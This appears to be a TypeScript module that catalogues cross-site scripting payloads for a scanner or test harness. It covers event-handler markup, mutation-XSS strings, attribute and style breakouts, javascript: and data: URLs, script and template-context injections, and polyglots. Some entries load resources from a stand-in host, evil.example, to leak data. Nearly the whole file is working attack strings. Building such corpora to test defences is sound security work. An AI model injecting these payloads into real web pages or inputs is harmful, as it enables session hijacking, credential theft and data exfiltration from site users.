/**
 * What attacks are made of. `§` stands for the call that tells of harm, `harm(17)`; the number is the text's own, so that
 * each of them can be told by what it did. A family comes alive in a sink: the mistake in a page that it waits for.
 */
export interface Family {
  readonly text: string;
  /** The sink where it comes alive; else its context's. */
  readonly sink?: string;
}

const inMarkup = (...texts: readonly string[]): Family[] => texts.map((text) => ({ text }));
const inSink = (sink: string, ...texts: readonly string[]): Family[] => texts.map((text) => ({ text, sink }));

/** Markup: behind every way out of where a text may stand in markup. */
export const MARKUP: readonly Family[] = [
  ...inMarkup(
    "<img src=x onerror=§>",
    "<image src=x onerror=§>",
    "<img srcset=x onerror=§>",
    "<svg><animate onbegin=§ attributeName=x dur=1s></svg>",
    "<svg><set onbegin=§ attributeName=x to=y></svg>",
    "<svg><foreignObject><img src=x onerror=§></foreignObject></svg>",
    '<svg><a xlink:href="javascript:§"><text y=20>x</text></a></svg>',
    "<input autofocus onfocus=§>",
    "<select autofocus onfocus=§></select>",
    "<textarea autofocus onfocus=§></textarea>",
    "<b tabindex=1 onfocus=§>x</b>",
    "<b contenteditable onfocus=§>x</b>",
    "<details open ontoggle=§>x</details>",
    "<video src=x onerror=§></video>",
    "<video><source src=x onerror=§></video>",
    "<audio src=x onerror=§></audio>",
    "<iframe onload=§></iframe>",
    '<iframe srcdoc="<script>parent.§</script>"></iframe>',
    '<iframe src="javascript:parent.§"></iframe>',
    "<style onload=§></style>",
    "<link rel=stylesheet href=/nothing.css onerror=§>",
    "<object data=/nothing.bin onerror=§></object>",
    "<div onmouseover=§>x</div>",
    "<a href=javascript:§>x</a>",
    "<form><button formaction=javascript:§>x</button></form>",
    "<form action=javascript:§><input type=submit></form>",
    "<button popovertarget=p§>x</button><i popover id=p§ onbeforetoggle=§>x</i>",
    "<style>@keyframes x{}</style><i style=animation-name:x onanimationstart=§>x</i>",
  ),
  // The parser makes something else of them when it reads its own words again.
  ...inSink(
    "twice",
    '<noscript><p title="</noscript><img src=x onerror=§>"></noscript>',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=§>",
    '<svg></p><style><a id="</style><img src=x onerror=§>">',
  ),
  ...inSink(
    "written",
    "<script>§</script>",
    "<script type=module>§</script>",
    '<script src="data:text/javascript,§"></script>',
    "<svg><script>§</script></svg>",
    "<svg onload=§></svg>",
    "<body onpageshow=§>",
    "<template shadowrootmode=open><img src=x onerror=§></template>",
    // Nothing runs: somebody else is asked, or everything.
    "<img src=http://evil.example/§>",
    "<link rel=stylesheet href=http://evil.example/§>",
    "<base href=http://evil.example/><img src=§>",
    '<meta http-equiv=refresh content="0;url=http://evil.example/§">',
    "<video poster=http://evil.example/§></video>",
    "<svg><image href=http://evil.example/§ /></svg>",
    "<i style=\"display:block;background:url('http://evil.example/§')\">x</i>",
    '<style>@import "http://evil.example/§";</style>',
    "<iframe src=http://evil.example/§></iframe>",
    "<form action=http://evil.example/§><button>x</button></form>",
  ),
];

/** Ways out of an attribute, or of a style, that need no new element. */
export const INSIDE: readonly Family[] = [
  ...inSink("double", '" autofocus onfocus=§ x="', '" onmouseover=§ x="'),
  ...inSink("single", "' autofocus onfocus=§ x='", "' onmouseover=§ x='"),
  ...inSink("bare", "x onfocus=§ autofocus", "x\nonmouseover=§"),
  ...inSink("style", "red;background:url('http://evil.example/§')"),
  ...inSink("rule", "red}i{background:url('http://evil.example/§')}x{"),
];

/** What is taken for an address. */
export const ADDRESSES: readonly Family[] = [
  ...inSink("link", "javascript:§", "javascript://x%0a§", "java\tscr\nipt:§", "\u0001\u001f javascript:§"),
  ...inSink("frame", "javascript:§", "data:text/html,<script>§</script>"),
];

/** What is taken for a part of a script or of a template. */
export const SCRIPT: readonly Family[] = [
  ...inSink("single-quoted script", "';§;//", "'-§-'"),
  ...inSink("double-quoted script", '";§;//', '"+§+"'),
  ...inSink("escaped script", "\\';§;//"),
  ...inSink("template script", "`;§;//", `\${§}`),
  ...inSink("line comment", "\n§//", "\u2028§//"),
  ...inSink("block comment", "*/§/*"),
  ...inSink("script element", "</script><script>§</script>"),
  ...inSink("template", '{{constructor.constructor("§")()}}', "<%=§%>", "#{§}"),
];

/** Some that wait for several mistakes at once. */
export const POLYGLOTS: readonly Family[] = [
  ...inSink(
    "markup",
    "\"'--></title></textarea></style></script><img src=x onerror=§>",
    `\`'"><details open ontoggle=§>\${§}{{§}}`,
  ),
  ...inSink(
    "double",
    "javascript:/*--></title></style></textarea></script>'\"/><img src=x onerror='+/\"/+/[*/[]/+§//'>",
  ),
  ...inSink("link", "javascript:/*'/*\"/*`/*--><img src=x onerror=§>*/§//"),
  ...inSink("single", "'\"><details open ontoggle=§></script><script>§//"),
  ...inSink("single-quoted script", "'//\";//`;//--></script><img src=x onerror=§>\n;§//"),
  ...inSink("rawtext", "</textarea/>\"'--><img src='x' onerror='§'>"),
];
